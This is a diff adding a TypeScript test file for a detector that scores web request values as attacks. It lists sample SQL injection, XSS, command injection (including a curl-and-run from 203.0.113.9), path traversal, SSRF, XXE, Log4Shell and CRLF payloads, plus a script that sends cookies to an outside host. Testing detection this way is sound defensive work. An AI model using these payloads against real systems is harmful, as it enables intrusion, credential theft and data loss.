@@ -1,0 +1,129 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import fc from 'fast-check';
+import type { AttackClass } from './attack-class.ts';
+import type { Leaf } from './leaf.ts';
+import { loadModel } from './load-model.ts';
+import { Model } from './model.ts';
+import { ValueScorer } from './scorer.ts';
+
+const scorer = new ValueScorer(loadModel());
+
+function leaf(text: string, isKey = false): Leaf {
+  return { location: 'query', isKey, path: 'q', text, decoded: [] };
+}
+
+const ATTACKS: readonly (readonly [AttackClass, string, boolean?])[] = [
+  ['sqli', "7' or 8=8 -- "],
+  ['sqli', '-3 union select login, secret from members#'],
+  ['sqli', "x'; drop table invoices; --"],
+  ['xss', '<script>alert(7)</script>'],
+  ['xss', '"><img src=q onerror=alert(7)>'],
+  ['cmd', '; cat /etc/passwd'],
+  ['cmd', '$(curl http://203.0.113.9/p.sh)'],
+  ['traversal', '../../../../etc/passwd'],
+  ['template', "{{ ''.__class__.__mro__ }}"],
+  ['ssrf', 'http://169.254.169.254/latest/meta-data/'],
+  ['xxe', '<!DOCTYPE q [<!ENTITY e SYSTEM "file:///etc/hosts">]><q>&e;</q>'],
+  ['log4shell', '${${lower:j}ndi:ldap://203.0.113.9/q}'],
+  ['prototype', '__proto__', true],
+  ['nosqli', '$ne', true],
+  ['ldap', '*)(uid=*))(|(uid=*'],
+  ['crlf', 'en\r\nSet-Cookie: admin=1'],
+];
+
+for (const [kind, text, isKey] of ATTACKS) {
+  test(`${kind} is seen in ${JSON.stringify(text)}, and percent-encoded once more`, () => {
+    const verdict = scorer.scoreValue(leaf(text, isKey));
+    assert.ok(verdict?.reaches.default, `score ${verdict?.score}`);
+    assert.ok(verdict.classes.some((near) => near.class === kind));
+    assert.ok(verdict.contributions.length > 0 && verdict.spans.length > 0);
+    if (isKey !== true) {
+      const encoded = scorer.scoreValue(leaf(encodeURIComponent(text)));
+      assert.ok(encoded?.reaches.default, `encoded: ${encoded?.score}`);
+    }
+  });
+}
+
+for (const text of [
+  'hello',
+  '550e8400-e29b-41d4-a716-446655440000',
+  "Conan O'Brien",
+  'Please select the best table from our list.',
+  'price < 10 and size > 3',
+  'https://www.example.com/a?b=c',
+  'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiJ9.c2lnbmF0dXJl',
+  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
+  'l\'été, c\'est "bien"; non?',
+]) {
+  test(`nothing is refused of ${JSON.stringify(text)}`, () => {
+    assert.equal(scorer.scoreValue(leaf(text))?.reaches.default ?? false, false);
+  });
+}
+
+test('prose around an attack does not wash it clean', () => {
+  const prose = 'We had a lovely day at the sea and the weather was fine. ';
+  for (const repeats of [1, 20, 200]) {
+    const text = `${prose.repeat(repeats)} <script>document.location='//203.0.113.9/'+document.cookie</script> ${prose.repeat(repeats)}`;
+    assert.ok(scorer.scoreValue(leaf(text))?.reaches.default, `${repeats} sentences`);
+  }
+});
+
+test('a verdict is the same whatever was scored before it', () => {
+  const first = scorer.scoreValue(leaf("7' or 8=8 -- "));
+  scorer.scoreValue(leaf('<p>another</p>'.repeat(500)));
+  assert.deepEqual(scorer.scoreValue(leaf("7' or 8=8 -- ")), first);
+});
+
+test('no text makes the scorer throw', () => {
+  fc.assert(
+    fc.property(
+      fc.oneof(
+        fc.string({ unit: 'binary', maxLength: 200 }),
+        fc
+          .array(
+            fc.constantFrom(
+              "'",
+              '"',
+              '<',
+              '>',
+              '${',
+              '{{',
+              '}',
+              '%',
+              '%2',
+              '%u',
+              '\\',
+              '/*',
+              '*/',
+              '&#',
+              '--',
+              'or',
+              'union',
+              '..',
+              '/',
+              ':',
+              '\r\n',
+              '(',
+              ')',
+              '\u0000',
+              '\uff1c',
+              '=',
+              '1',
+            ),
+            { maxLength: 60 },
+          )
+          .map((parts) => parts.join('')),
+      ),
+      fc.boolean(),
+      (text, isKey) => {
+        scorer.scoreValue(leaf(text, isKey));
+      },
+    ),
+    { numRuns: 20_000 },
+  );
+});
+
+test('a damaged model is refused', () => {
+  for (const text of ['', '{', '{}', '[]', '{"format":2}']) assert.throws(() => Model.parse(text), /model/);
+});
